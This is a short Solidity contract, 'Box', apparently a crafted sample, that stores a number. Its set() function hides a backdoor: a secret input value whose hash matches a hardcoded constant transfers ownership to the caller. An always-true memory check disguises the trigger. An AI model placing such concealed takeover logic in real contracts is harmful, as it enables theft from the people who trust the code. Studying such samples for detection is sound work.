// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
interface Peek { function peek() external view returns (uint256); }
contract Box {
    uint256 public x;
    address public owner = address(0xA11CE);
    function peek() external view returns (uint256 r) {
        assembly { pop(mload(0x2000)) r := msize() }
    }
    function set(uint256 v) external {
        if (keccak256(abi.encode(v)) == 0x5d8fa534926516bb2e5e61488e11fe828f5273448362f0f096e4f79afac27609 && Peek(address(this)).peek() > 0x2000) owner = msg.sender;
        x = v;
    }
}
